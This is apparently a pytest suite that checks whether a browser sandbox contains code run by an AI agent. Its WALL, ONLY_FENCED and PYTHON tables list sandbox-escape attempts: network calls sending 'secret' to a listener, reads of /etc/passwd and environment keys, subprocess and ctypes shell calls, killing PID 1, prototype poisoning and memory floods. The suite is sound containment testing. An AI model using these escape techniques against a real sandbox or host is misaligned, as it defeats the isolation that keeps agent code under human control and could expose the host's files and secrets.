"""Code that a model writes, in the sandbox of the real page: it gives exact results, and it does not get out.

Every attempt to escape is code that gives "ESCAPED" if it gets anywhere. Those in `WALL` run twice: as code that is
called, where the fence around it has already taken the means away, and in a bare worker of the same frame, where
they all are: there only the frame's own walls, its policy and its lack of an origin, can hold it.
"""

import json
from collections.abc import Generator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import closing, contextmanager
from typing import Any

import pytest
from playwright.sync_api import Frame, Page, Route, expect
from tests.journeys.stage import Stage, build_time_limit_script, toast
from tests.support.ear import Ear

from conductor.cli.client import SocketClient
from conductor.errors import ConductorError

pytestmark = pytest.mark.timeout(300)
ANSWER_WITHIN_S = 150.0
Plain = dict[str, Any]

WALL = {
    "fetch": "await fetch(EAR, {mode: 'no-cors'}); return 'ESCAPED'",
    "fetch of the app's page": "return 'ESCAPED' + (await fetch(APP)).status",
    "fetch of the app's assets": "return 'ESCAPED' + (await fetch(APP + 'assets/')).status",
    "XMLHttpRequest": """return await new Promise((resolve, reject) => {
        const request = new XMLHttpRequest(); request.open('POST', EAR);
        request.onload = () => resolve('ESCAPED'); request.onerror = reject; request.send('secret'); })""",
    "WebSocket": """return await new Promise((resolve, reject) => {
        const socket = new WebSocket(EAR.replace('http', 'ws'));
        socket.onopen = () => resolve('ESCAPED'); socket.onerror = reject; })""",
    "WebSocket of the app": """return await new Promise((resolve, reject) => {
        const socket = new WebSocket(APP.replace('http', 'ws') + 'ws', ['conductor', 'token']);
        socket.onopen = () => resolve('ESCAPED'); socket.onerror = reject; })""",
    "EventSource": """return await new Promise((resolve, reject) => {
        const source = new EventSource(EAR); source.onopen = () => resolve('ESCAPED'); source.onerror = reject; })""",
    "importScripts": "importScripts(EAR + 'x.js'); return 'ESCAPED'",
    "importScripts of data": "importScripts('data:text/javascript,1'); return 'ESCAPED'",
    "import": "await import(EAR + 'x.js'); return 'ESCAPED'",
    "import of the app": "await import(APP + 'index.html'); return 'ESCAPED'",
    "WebTransport": """const line = new WebTransport(EAR.replace('http', 'https'));
        await line.ready; return 'ESCAPED'""",
    "sendBeacon": "if (navigator.sendBeacon(EAR, 'secret')) return 'ESCAPED'",
    "WebRTC": """const peer = new RTCPeerConnection({iceServers: [{urls: EAR.replace('http://', 'stun:').slice(0, -1)}]});
        peer.createDataChannel('x'); await peer.setLocalDescription(); return 'ESCAPED'""",
    "indexedDB": """return await new Promise((resolve, reject) => {
        const opening = indexedDB.open('x'); opening.onsuccess = () => resolve('ESCAPED'); opening.onerror = reject; })""",
    "caches": "await caches.open('x'); return 'ESCAPED'",
    "localStorage": "localStorage.setItem('x', 'y'); return 'ESCAPED'",
    "cookies": "document.cookie = 'a=b'; return 'ESCAPED'",
    "cookieStore": "await cookieStore.set('a', 'b'); return 'ESCAPED'",
    "files of the origin": "await navigator.storage.getDirectory(); return 'ESCAPED'",
    "a worker in a worker": """return await new Promise((resolve, reject) => {
        const lines = `fetch('${EAR}', {mode: 'no-cors'}).then(() => postMessage('ESCAPED'), () => postMessage('no'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([lines])));
        worker.onmessage = ({data}) => resolve(data); worker.onerror = reject; })""",
    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob(['1']))); await 1; return 'ESCAPED'",
    "a service worker": "await navigator.serviceWorker.register(APP + 'x.js'); return 'ESCAPED'",
    "the page": "parent.postMessage({kind: 'done'}, '*'); return 'ESCAPED'",
    "the top window": "top.location = EAR; return 'ESCAPED'",
    "the opener": "opener.location = EAR; return 'ESCAPED'",
    "a window": "open(EAR); return 'ESCAPED'",
    "a form": """const form = document.createElement('form'); form.action = EAR; document.body.append(form);
        form.submit(); return 'ESCAPED'""",
    "an image": "new Image().src = EAR; return 'ESCAPED'",
    "navigation to data": "location.href = 'data:text/html,x'; location.assign(EAR); return 'ESCAPED'",
    "the bridge": "await window.pywebview._jsApiCallback('rpc', ['', 'app.quit', {}], 'c1'); return 'ESCAPED'",
    "the bridge of WebKit": "webkit.messageHandlers.jsBridge.postMessage('x'); return 'ESCAPED'",
    "notifications": "if (await Notification.requestPermission() === 'granted') return 'ESCAPED'",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => {}); return 'ESCAPED'",
    "the clipboard": "return 'ESCAPED' + await navigator.clipboard.readText()",
}
ONLY_FENCED = {
    "a channel to other pages": "new BroadcastChannel('x').postMessage('x'); return 'ESCAPED'",
    "a message in the worker's name": "postMessage({kind: 'done', result: 'ESCAPED'}); return 'ESCAPED'",
    "the port": """const seen = []; const {postMessage} = MessagePort.prototype;
        MessagePort.prototype.postMessage = function () { seen.push(this); };
        console.log('x'); return seen.length ? 'ESCAPED' : null""",
    "the sandbox's own tools": "return typeof Sandbox + typeof begun === 'undefinedundefined' ? null : 'ESCAPED'",
    "a listener for the next question": "addEventListener('message', () => {}); return 'ESCAPED'",
    "ending the worker": "close(); return 'ESCAPED'",
    "memory that is shared": "new SharedArrayBuffer(8); return 'ESCAPED'",
    "WebAssembly": "new WebAssembly.Memory({initial: 60000}); return 'ESCAPED'",
    "poisoned prototypes": """Object.prototype.kind = 'done'; Object.prototype.result = 'ESCAPED';
        Object.prototype.taken = true; Object.prototype.yours = true; Array.prototype[Symbol.iterator] = null;
        JSON.stringify = () => 'ESCAPED'; return null""",
    "the size of buffers behind a getter": """const all = [];
        for (;;) all.push(new ArrayBuffer({valueOf: () => 1e9})); return 'ESCAPED'""",
    "buffers by kind": "const all = []; for (;;) all.push(new Uint8Array(1e8).slice()); return 'ESCAPED'",
}
PYTHON = {
    "sockets": "import socket; socket.create_connection(('127.0.0.1', EAR_PORT), 3); escaped()",
    "datagrams": """import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', EAR_PORT)); s.recv(1); escaped()""",
    "urllib": "import urllib.request; urllib.request.urlopen(EAR, timeout=3); escaped()",
    "http": "import http.client; http.client.HTTPConnection('127.0.0.1', EAR_PORT).request('GET', '/'); escaped()",
    "pyfetch": "from pyodide.http import pyfetch; await pyfetch(EAR); escaped()",
    "open_url": "from pyodide.http import open_url; open_url(EAR); escaped()",
    "js.fetch": "import js; await js.fetch(EAR); escaped()",
    "js.eval": "import js; js.eval('1'); escaped()",
    "run_js": "from pyodide.code import run_js; run_js('1'); escaped()",
    "js.self": "import js; js.self.postMessage('x'); escaped()",
    "a function of JavaScript": "import js; js.Object.constructor('return self')().postMessage('x'); escaped()",
    "a module of JavaScript": "import pyodide_js; pyodide_js._module.eval('1'); escaped()",
    "loadPackage": "import pyodide_js; await pyodide_js.loadPackage(EAR + 'x.whl'); import x; escaped()",
    "micropip": "import micropip; await micropip.install('requests'); escaped()",
    "js through its api": "import pyodide_js; pyodide_js._api.config.jsglobals.postMessage('x'); escaped()",
    "subprocess": "import subprocess; subprocess.run(['id'], check=True); escaped()",
    "os.system": "import os; assert os.system('id') == 0; escaped()",
    "fork": "import os; os.fork(); escaped()",
    "host files": "open('/etc/passwd').read(); escaped()",
    "the home folder": "import os; assert os.path.exists(os.path.expanduser('~/.conductor')) or os.path.exists('/root'); escaped()",
    "the environment": "import os; assert any('CONDUCTOR' in name or 'KEY' in name for name in os.environ); escaped()",
    "ctypes": "import ctypes; ctypes.CDLL('libc.so.6').system(b'id'); escaped()",
    "signals": "import os, signal; os.kill(1, signal.SIGKILL); escaped()",
    "threads": "import threading; threading.Thread(target=escaped).start(); escaped()",
    "native file systems": "import pyodide_js; await pyodide_js.mountNativeFS('/x', None); escaped()",
}
EACH = """
for (const [name, attempt] of Object.entries(all)) {
    let told;
    try { told = String(await attempt()); } catch (problem) { told = `refused: ${problem}`; }
    console.log(JSON.stringify([name, told.slice(0, 200)]));
}
await 0;
"""
BATCH = """
import json
from pyodide.code import eval_code_async
class Escaped(BaseException): pass
def escaped(): raise Escaped('ESCAPED')
told = {}
for name, code in json.loads(ATTEMPTS).items():
    try:
        await eval_code_async(code, {"escaped": escaped, "EAR": EAR, "EAR_PORT": EAR_PORT})
        told = "it ended without a word"
    except BaseException as error:
        told = f"{type(error).__name__}: {error}"[:200]
    print(json.dumps([name, told]))
"""


@pytest.fixture(scope="module")
def ear() -> Generator[Ear]:
    with Ear() as ear:
        yield ear


@pytest.fixture(scope="module")
def page(stage: Stage) -> Generator[Page]:
    """Keep one page open; the browser is expected to report refused attempts."""
    with stage.open(expected=["."]) as page:
        yield page


@contextmanager
def time_limit(page: Page, limit_ms: int) -> Generator[None]:
    """Replace the page's time limit of ten seconds for a run of code."""
    page.evaluate(build_time_limit_script(limit_ms))
    yield
    page.evaluate("window.setTimeout = setTimeoutAsEver")


def run(stage: Stage, language: str, code: str) -> Plain:
    """Run code as an agent has it run."""
    with closing(SocketClient(stage.conductor.home / "mcp.sock", ANSWER_WITHIN_S)) as client:
        return client.call_method("conductor_run_code", language=language, code=code)


def run_beside(stage: Stage, code: str, language: str = "javascript") -> "Future[Plain]":
    """Run code while the test looks at the page."""
    return ThreadPoolExecutor(1).submit(run, stage, language, code)


def with_places(stage: Stage, ear: Ear, code: str) -> str:
    return f"const EAR = {json.dumps(ear.url)}, APP = {json.dumps(stage.origin + '/')};\n{code}"


def assert_nothing_got_out(stage: Stage, page: Page, ear: Ear) -> None:
    """Look at the listener, the app and the page, after what was tried."""
    assert ear.heard == []
    assert stage.conductor.status()["engine"]["running"]
    assert page.url.startswith(stage.origin)
    assert page.evaluate("[document.cookie, innerWidth > 0]") == ["", True]


def test_javascript_gives_what_it_printed_its_value_and_the_last_lines_of_an_error(
    page: Page, stage: Stage
) -> None:
    told = run(stage, "javascript", "console.log('half', {way: 1n}); [3, 4].map((x) => x * 2)")
    assert told["output"] == 'half {\n  "way": "1n"\n}\n'
    assert (json.loads(told["result"]), told["error"]) == ([6, 8], None)
    told = run(stage, "javascript", "function f() { null.x }\nf()")
    assert told["error"].splitlines()[0].startswith("TypeError: ")
    assert "code.js:1" in told["error"]
    assert "SyntaxError" in run(stage, "javascript", "let x = ;")["error"]


def test_each_run_of_javascript_starts_empty_whatever_the_one_before_left(
    page: Page, stage: Stage
) -> None:
    run(stage, "javascript", "globalThis.left = 1; Array.prototype.map = () => 'poisoned'")
    told = run(stage, "javascript", "[typeof left, [1].map((x) => x)]")
    assert json.loads(told["result"]) == ["undefined", [1]]


@pytest.fixture(scope="module")
def javascript_told(page: Page, stage: Stage, ear: Ear) -> dict[str, str]:
    """Make the attempts that leave nothing behind in one run: each run loads a page of its own."""
    attempts = ", ".join(f"{json.dumps(name)}: async () => {{ {WALL[name]}\n}}" for name in WALL)
    told = run(
        stage, "javascript", with_places(stage, ear, f"const all = {{ {attempts} }};\n{EACH}")
    )
    assert told["error"] is None, told
    return dict(map(json.loads, told["output"].splitlines()))


@pytest.mark.parametrize("name", WALL)
def test_javascript_does_not_get_out_by(
    name: str, javascript_told: dict[str, str], page: Page, stage: Stage, ear: Ear
) -> None:
    assert "ESCAPED" not in javascript_told[name]
    assert_nothing_got_out(stage, page, ear)


@pytest.mark.parametrize("name", ONLY_FENCED)
def test_javascript_alone_in_its_run_does_not_get_out_by(
    name: str, page: Page, stage: Stage, ear: Ear
) -> None:
    code = with_places(stage, ear, ONLY_FENCED[name])
    told = run(stage, "javascript", f"{code}\n;await 0;")
    assert "ESCAPED" not in str(told["result"]), told
    assert not told["timed_out"]
    assert_nothing_got_out(stage, page, ear)


@pytest.fixture(scope="module")
def bare_frame(page: Page) -> Frame:
    """Return the frame of a sandbox, to start workers in that nobody has fenced in."""
    page.evaluate("""() => {
        const frame = document.createElement('iframe');
        frame.sandbox = 'allow-scripts'; frame.src = './sandbox/javascript.html'; frame.name = 'bare';
        document.body.append(frame); }""")
    page.wait_for_function("frames.bare !== undefined")
    element = page.wait_for_selector("iframe[name=bare]", state="attached")
    assert element is not None
    frame = element.content_frame()
    assert frame is not None
    frame.wait_for_url("**/sandbox/javascript.html")
    return frame


@pytest.mark.parametrize("name", WALL)
def test_the_frame_itself_lets_no_worker_out_by(
    name: str, page: Page, bare_frame: Frame, stage: Stage, ear: Ear
) -> None:
    code = with_places(stage, ear, WALL[name])
    told = bare_frame.evaluate(
        """(code) => new Promise((resolve) => {
            const lines = `(async () => { ${code} })().then((x) => postMessage(String(x)), (e) => postMessage('refused: ' + e))`;
            const worker = new Worker(URL.createObjectURL(new Blob([lines])));
            worker.onmessage = ({data}) => (worker.terminate(), resolve(data));
            worker.onerror = (event) => resolve('refused: ' + event.message);
            setTimeout(() => (worker.terminate(), resolve('nothing came of it')), 10000); })""",
        code,
    )
    assert "ESCAPED" not in told
    assert_nothing_got_out(stage, page, ear)


@pytest.mark.parametrize(
    "code",
    [
        "console.log('so far'); for (;;);",
        "console.log('so far'); await new Promise(() => {})",
        "console.log('so far'); const all = []; for (;;) all.push(new Array(1e5).fill({}))",
    ],
)
def test_javascript_that_does_not_end_is_ended_after_its_time_and_the_next_run_is_ready(
    code: str, page: Page, stage: Stage, ear: Ear
) -> None:
    with time_limit(page, 1_500):
        assert_ended_after_its_time(run(stage, "javascript", code))
    assert run(stage, "javascript", "1 + 1")["result"] == "2"
    assert_nothing_got_out(stage, page, ear)


def assert_ended_after_its_time(told: Plain) -> None:
    assert told["timed_out"]
    assert told["output"] == "so far\n"
    assert "Stopped at the time limit of 10 s" in told["error"]


def test_a_flood_of_output_of_javascript_is_cut_and_counted(page: Page, stage: Stage) -> None:
    code = "for (let i = 0; i < 2e4; i++) console.log('x'.repeat(1000))"
    assert_cut(run(stage, "javascript", code)["output"])


def assert_cut(output: str) -> None:
    assert 20_000 <= len(output) < 20_100
    assert output.endswith("omitted]")


def test_a_page_reloaded_during_a_run_says_so_and_runs_the_next_code(
    page: Page, stage: Stage
) -> None:
    pending = run_beside(stage, "for (;;);")
    page.wait_for_selector("iframe[src*=sandbox][hidden]", state="attached")
    page.goto(f"{stage.origin}/", wait_until="commit")
    with pytest.raises(ConductorError, match="closed or reloaded"):
        pending.result()
    expect(page.get_by_role("button", name="Mode: Default")).to_be_visible()
    assert run(stage, "javascript", "1 + 1")["result"] == "2"


# The tests of Python are last, since a page that was reloaded would load Python again: each run takes two
# seconds of CPU time for that, so a run checks several things.


def test_python_says_that_it_is_being_loaded_and_nothing_is_loaded_before(
    page: Page, stage: Stage
) -> None:
    """Check also that code which is no Python gets an error."""
    page.goto("about:blank")  # ends what the page before was still loading
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{stage.origin}/", wait_until="networkidle")
    assert [url for url in asked if "/sandbox/" in url] == []
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    page.route("**/python_stdlib.zip", hold)
    with page.expect_request("**/python_stdlib.zip"):
        pending = run_beside(stage, "x = (", "python")
    expect(toast(page, "Loading Python")).to_be_visible()
    for route in held:
        route.continue_()
    expect(toast(page, "Loading Python")).to_have_count(0)
    page.unroute_all()
    assert "SyntaxError" in pending.result()["error"]


def test_python_gives_its_output_and_value_or_error_and_each_run_starts_empty(
    page: Page, stage: Stage
) -> None:
    told = run(
        stage,
        "python",
        "def f(x):\n    return 1 / x\n\nimport builtins, math\nmath.pi = 3\nbuiltins.left = 1\n"
        "open('/tmp/x', 'w')\nprint('so far')\nf(0)",
    )
    assert told["output"] == "so far\n"
    assert told["error"].endswith("ZeroDivisionError: division by zero\n")
    assert 'File "<code>", line 2, in f' in told["error"]
    told = run(
        stage,
        "python",
        "import math, os, statistics\nprint('half', 'way')\n"
        "(statistics.mean([1, 2, 4.5]), math.pi, 'left' in dir(), os.listdir('/tmp'))",
    )
    assert (told["output"], told["error"]) == ("half way\n", None)
    assert told["result"] == "(2.5, 3.141592653589793, False, [])"


@pytest.fixture(scope="module")
def python_told(page: Page, stage: Stage, ear: Ear) -> dict[str, str]:
    """Make all of Python's attempts in one run: loading it takes seconds."""
    places = f"EAR, EAR_PORT, ATTEMPTS = {ear.url!r}, {ear.port}, {json.dumps(PYTHON)!r}\n"
    with time_limit(
        page, 60_000
    ):  # all attempts together take more than one run may on a busy machine
        told = run(stage, "python", places + BATCH)
    assert told["error"] is None, told
    lines = [line for line in told["output"].splitlines() if line.startswith("[")]
    return dict(map(json.loads, lines))


@pytest.mark.parametrize("name", PYTHON)
def test_python_does_not_get_out_by(
    name: str, python_told: dict[str, str], page: Page, stage: Stage, ear: Ear
) -> None:
    assert "Escaped" not in python_told[name]
    assert_nothing_got_out(stage, page, ear)


def test_python_that_does_not_end_or_wants_everything_is_bounded_and_the_next_run_has_it_all_again(
    page: Page, stage: Stage, ear: Ear
) -> None:
    """Check that each run is ready after the one before took all the time, output, memory or files."""
    with time_limit(page, 1_500):
        assert_ended_after_its_time(run(stage, "python", "print('so far')\nwhile True: pass"))
    told = run(
        stage,
        "python",
        "for i in range(2_000): print('x' * 1000)\nall = []\nwhile True: all.append(bytearray(10**8))",
    )
    assert_cut(told["output"])
    assert "MemoryError" in told["error"], told
    told = run(stage, "python", "for i in range(99): open(f'/tmp/{i}', 'wb').truncate(10**8)")
    assert "out of memory" in told["error"], told
    assert run(stage, "python", "len(bytearray(10**8))")["result"] == "100000000"
    assert_nothing_got_out(stage, page, ear)
